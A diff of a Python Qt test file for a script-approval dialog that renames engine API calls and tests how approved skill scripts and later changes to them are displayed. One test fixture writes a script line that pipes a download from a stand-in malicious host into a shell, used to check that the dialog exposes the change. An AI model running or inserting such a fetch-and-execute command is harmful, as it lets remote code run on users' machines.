@@ -29,14 +29,14 @@ def trust_through_the_dialog(engine: Engine, ref: str) -> None:
         )
         dialog.always_button.click()
 
-    prepared = engine.prepare(ref)
+    prepared = engine.runs.prepare(ref)
     QTimer.singleShot(0, press_trust)
     assert ApprovalPrompter().ask(prepared) is Answer.ALWAYS
-    engine.approve(prepared)
+    engine.trust.approve_prepared(prepared)
 
 
 def test_the_script_it_runs_is_shown(qtbot, engine: Engine) -> None:
-    dialog = ApprovalDialog(engine.prepare("slow.fail"))
+    dialog = ApprovalDialog(engine.runs.prepare("slow.fail"))
     qtbot.addWidget(dialog)
     assert "echo 'something broke' >&2" in text(dialog, "approval-script")
 
@@ -47,7 +47,7 @@ def test_a_changed_skill_shows_a_unified_diff_since_approval(
     trust_through_the_dialog(engine, "slow.fail")
     (skills_dir / "slow" / "fail.sh").write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
     (skills_dir / "slow" / "new.sh").write_text("#!/bin/sh\necho new\n")
-    dialog = ApprovalDialog(engine.prepare("slow.fail"))
+    dialog = ApprovalDialog(engine.runs.prepare("slow.fail"))
     qtbot.addWidget(dialog)
     diff = text(dialog, "approval-diff")
     assert "-echo 'something broke' >&2" in diff
@@ -56,10 +56,12 @@ def test_a_changed_skill_shows_a_unified_diff_since_approval(
 
 
 def test_without_a_kept_copy_the_dialog_says_so(qtbot, engine: Engine, skills_dir: Path) -> None:
-    engine.approve(engine.prepare("slow.fail"))  # every approval path keeps a copy ...
+    engine.trust.approve_prepared(
+        engine.runs.prepare("slow.fail")
+    )  # every approval path keeps a copy ...
     assert approved_copies.forget(skills_dir / "slow")  # ... which can be gone since
     (skills_dir / "slow" / "fail.sh").write_text("#!/bin/sh\nexit 9\n")
-    dialog = ApprovalDialog(engine.prepare("slow.fail"))
+    dialog = ApprovalDialog(engine.runs.prepare("slow.fail"))
     qtbot.addWidget(dialog)
     assert "No copy of the approved version" in text(dialog, "approval-diff")
 
@@ -73,7 +75,7 @@ def test_the_copy_is_bounded(tmp_path: Path) -> None:
 
 
 def test_secrets_and_open_folder(qtbot, engine: Engine) -> None:
-    prepared = engine.prepare("hello.say_hello")
+    prepared = engine.runs.prepare("hello.say_hello")
     dialog = ApprovalDialog(prepared)
     qtbot.addWidget(dialog)
     assert text(dialog, "approval-secrets") == "None"
@@ -89,7 +91,7 @@ def test_secrets_and_open_folder(qtbot, engine: Engine) -> None:
 
 
 def test_the_script_is_syntax_highlighted(qtbot, engine: Engine) -> None:
-    dialog = ApprovalDialog(engine.prepare("slow.fail"))
+    dialog = ApprovalDialog(engine.runs.prepare("slow.fail"))
     qtbot.addWidget(dialog)
     view = dialog.findChild(QPlainTextEdit, "approval-script")
     block = view.document().firstBlock()
